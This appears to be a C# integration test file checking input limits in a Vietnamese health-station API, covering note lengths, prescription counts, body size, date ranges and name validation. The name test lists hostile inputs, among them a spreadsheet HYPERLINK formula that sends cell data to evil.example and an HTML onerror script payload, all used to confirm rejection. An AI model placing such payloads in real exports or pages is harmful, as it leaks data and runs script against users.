using System.Globalization;
using System.Net;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using CoSo.IntegrationTests.Infrastructure;
using Microsoft.EntityFrameworkCore;
using static CoSo.IntegrationTests.Security.InputShapeTests;

namespace CoSo.IntegrationTests.Security;

// Issue 14, item 8 (docs/security.md, "Input limits and exports"); security finding B14 stored all of these.
public sealed class InputLimitsTests
{
    private static readonly string Today = DateOnly.FromDateTime(DateTime.UtcNow.AddHours(7)).ToString("yyyy-MM-dd", CultureInfo.InvariantCulture);

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_note_is_at_most_4000_characters_and_a_visit_at_most_30_prescription_lines(string provider)
    {
        var app = await Apps.Get(provider);
        using var a = await app.LoginAsync("a1");
        var person = (await TestPeople.RegisterAsync(a, TestPeople.Input(app.Org.VillageA1.Id))).GetProperty("id").GetGuid();
        var visits = $"/api/v1/people/{person}/visits";

        var atLimit = await a.PostAsJsonAsync(visits, Visit(notes: new string('a', 4_000)));
        Assert.Equal(HttpStatusCode.Created, atLimit.StatusCode);

        var note = await a.PostAsJsonAsync(visits, Visit(notes: new string('a', 4_001)));
        var noteJson = await note.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.BadRequest, note.StatusCode);
        Assert.Equal("tooLong", Code(noteJson, "notes"));
        Assert.Equal("Quá dài (tối đa 4000 ký tự).", Message(noteJson, "notes"));

        // The probe's million-character note, in a field no service checks by itself: the JSON bound names it.
        var million = await a.PostAsJsonAsync("/api/v1/stock/receipts", new { drugCode = "ALBE400", lotNumber = "L-MILLION", expiryDate = "2030-01-31", quantity = 10, unitPrice = 1000, supplier = new string('b', 1_000_000) });
        Assert.Equal(HttpStatusCode.BadRequest, million.StatusCode);
        Assert.Equal("tooLong", Code(await million.Content.ReadFromJsonAsync<JsonElement>(), "supplier"));

        var line = new { drug = "Paracetamol 500mg", quantity = 10, days = 3 };
        var thirty = await a.PostAsJsonAsync(visits, Visit(prescriptions: Enumerable.Repeat(line, 30).ToArray()));
        Assert.Equal(HttpStatusCode.Created, thirty.StatusCode);
        var many = await a.PostAsJsonAsync(visits, Visit(prescriptions: Enumerable.Repeat(line, 31).ToArray()));
        var manyJson = await many.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.BadRequest, many.StatusCode);
        Assert.Equal("prescription.tooMany", Code(manyJson, "prescriptions"));
        Assert.Equal("Một lần khám kê tối đa 30 dòng thuốc.", Message(manyJson, "prescriptions"));

        var record = new HttpRequestMessage(HttpMethod.Put, $"/api/v1/people/{person}/health-record") { Content = JsonContent.Create(new { dietNotes = new string('c', 4_001) }) };
        record.Headers.IfMatch.ParseAdd("\"0\"");
        var diet = await a.SendAsync(record);
        Assert.Equal(HttpStatusCode.BadRequest, diet.StatusCode);
        Assert.Equal("tooLong", Code(await diet.Content.ReadFromJsonAsync<JsonElement>(), "dietNotes"));

        var stored = await TestDatabase.WithDbAsync(app.ConnectionString, db => db.Encounters.Where(e => e.PersonId == person).Select(e => new { e.Id, Lines = e.Prescriptions.Count }).ToListAsync());
        Assert.Equal(2, stored.Count); // the note of exactly 4,000 and the 30 lines
        Assert.Contains(stored, s => s.Lines == 30);
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_body_over_1_MB_is_refused_before_it_is_read(string provider)
    {
        var app = await Apps.Get(provider);
        using var a = await app.LoginAsync("a1");
        var name = TestPeople.UniqueName("Quá Cỡ");
        var padding = new string(' ', 1024 * 1024);
        using var request = new HttpRequestMessage(HttpMethod.Post, "/api/v1/people") { Content = new StringContent(Person(app, name) + padding, Encoding.UTF8, "application/json") };
        request.Headers.AcceptLanguage.ParseAdd("en");
        var response = await a.SendAsync(request);
        var json = await response.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.RequestEntityTooLarge, response.StatusCode);
        Assert.Equal("request.tooLarge", Code(json, "body"));
        Assert.Equal("The request body is too large (at most 1024 KB).", Message(json, "body"));
        Assert.Equal(0, await TestDatabase.WithDbAsync(app.ConnectionString, db => db.People.CountAsync(p => p.FullName == name)));

        // The same person in a normal body is fine: the limit is on size, not on the request.
        var fine = await PostRawAsync(a, "/api/v1/people", Person(app, name), null);
        Assert.Equal(HttpStatusCode.Created, fine.Status);
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task Clinical_dates_before_1900_before_birth_or_in_year_9999_are_refused_on_their_field(string provider)
    {
        var app = await Apps.Get(provider);
        using var a = await app.LoginAsync("a1");
        // Born 1968 (birth date known) and born 1960 (year only), as in the probe.
        var person = (await TestPeople.RegisterAsync(a, TestPeople.Input(app.Org.VillageA1.Id))).GetProperty("id").GetGuid();
        var yearOnly = await PostRawAsync(a, "/api/v1/people", $$"""{"fullName":"{{TestPeople.UniqueName("Năm Sinh")}}","birthYear":1960,"sex":"Female","villageId":"{{app.Org.VillageA1.Id}}"}""", null);
        Assert.Equal(HttpStatusCode.Created, yearOnly.Status);
        var yearOnlyId = yearOnly.Json.GetProperty("id").GetGuid();

        var before1900 = await a.PostAsJsonAsync($"/api/v1/people/{person}/visits", Visit(occurredAt: "1899-12-31T08:00:00+07:00"));
        var before1900Json = await before1900.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.BadRequest, before1900.StatusCode);
        Assert.Equal("date.range", Code(before1900Json, "occurredAt"));
        Assert.Equal("Ngày phải từ 01/01/1900 đến 31/12/2100.", Message(before1900Json, "occurredAt"));

        var beforeBirth = await a.PostAsJsonAsync($"/api/v1/people/{yearOnlyId}/visits", Visit(occurredAt: "1900-01-01T08:00:00+07:00"));
        Assert.Equal("visit.beforeBirth", Code(await beforeBirth.Content.ReadFromJsonAsync<JsonElement>(), "occurredAt"));

        var year9999 = await a.PostAsJsonAsync($"/api/v1/people/{person}/visits", Visit(occurredAt: "9999-12-31T08:00:00+07:00"));
        Assert.Equal("date.range", Code(await year9999.Content.ReadFromJsonAsync<JsonElement>(), "occurredAt"));

        var onset = await a.PostAsJsonAsync("/api/v1/surveillance/cases", new { personId = yearOnlyId, diseaseCode = "dengue", classification = "Suspected", onsetDate = "1900-01-01" });
        var onsetJson = await onset.Content.ReadFromJsonAsync<JsonElement>();
        Assert.Equal(HttpStatusCode.BadRequest, onset.StatusCode);
        Assert.Equal("date.beforeBirth", Code(onsetJson, "onsetDate"));

        var onsetYear1 = await a.PostAsJsonAsync("/api/v1/surveillance/cases", new { personId = person, diseaseCode = "dengue", classification = "Suspected", onsetDate = "0001-01-01" });
        Assert.Equal("date.range", Code(await onsetYear1.Content.ReadFromJsonAsync<JsonElement>(), "onsetDate"));

        Assert.Equal(0, await TestDatabase.CountAsync<Core.Encounters.Encounter>(app.ConnectionString, q => q.Where(e => e.PersonId == person || e.PersonId == yearOnlyId)));
        Assert.Equal(0, await TestDatabase.CountAsync<Core.Surveillance.Cases.CaseReport>(app.ConnectionString, q => q.Where(c => c.PersonId == person || c.PersonId == yearOnlyId)));

        // Today is fine.
        Assert.Equal(HttpStatusCode.Created, (await a.PostAsJsonAsync("/api/v1/surveillance/cases", new { personId = person, diseaseCode = "dengue", classification = "Suspected", onsetDate = Today })).StatusCode);
    }

    [Theory]
    [MemberData(nameof(TestDatabase.Providers), MemberType = typeof(TestDatabase))]
    public async Task A_non_resident_case_name_follows_the_resident_name_rule(string provider)
    {
        var app = await Apps.Get(provider);
        using var a = await app.LoginAsync("a1");
        string[] bad = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Bấm xem\")", "<img src=x onerror=alert(1)> Văn", "Nguyễn Văn 3fa2b1", "Một", new string('A', 60) + " " + new string('B', 60)];
        foreach (var name in bad)
        {
            var response = await a.PostAsJsonAsync("/api/v1/surveillance/cases", Case(app, name));
            Assert.Equal(HttpStatusCode.BadRequest, response.StatusCode);
            Assert.Contains(Code(await response.Content.ReadFromJsonAsync<JsonElement>(), "nonResidentName"), new[] { "name.invalid", "tooLong" });
        }

        var phone = await a.PostAsJsonAsync("/api/v1/surveillance/cases", Case(app, TestPeople.UniqueName("Khách"), phone: "=1+2"));
        Assert.Equal("phone.format", Code(await phone.Content.ReadFromJsonAsync<JsonElement>(), "nonResidentPhone"));

        var good = TestPeople.UniqueName("Khách Vãng");
        Assert.Equal(HttpStatusCode.Created, (await a.PostAsJsonAsync("/api/v1/surveillance/cases", Case(app, good))).StatusCode);
        Assert.Equal(0, await TestDatabase.CountAsync<Core.Surveillance.Cases.CaseReport>(app.ConnectionString, q => q.Where(c => c.NonResidentName!.Contains("HYPERLINK") || c.NonResidentName!.Contains("<img"))));
    }

    internal static object Case(CoSoApp app, string name, string? address = null, string? phone = null) => new
    {
        nonResidentName = name, nonResidentSex = "Male", nonResidentBirthYear = 1990, nonResidentPhone = phone, stationId = app.Org.StationA.Id,
        diseaseCode = "dengue", classification = "Suspected", onsetDate = Today, address,
    };

    private static object Visit(string? notes = null, string? occurredAt = null, object[]? prescriptions = null) => new
    {
        occurredAt,
        systolic = 120,
        diastolic = 80,
        notes,
        diagnoses = new[] { new { code = "J06.9", isMain = true } },
        prescriptions = prescriptions ?? [],
    };
}
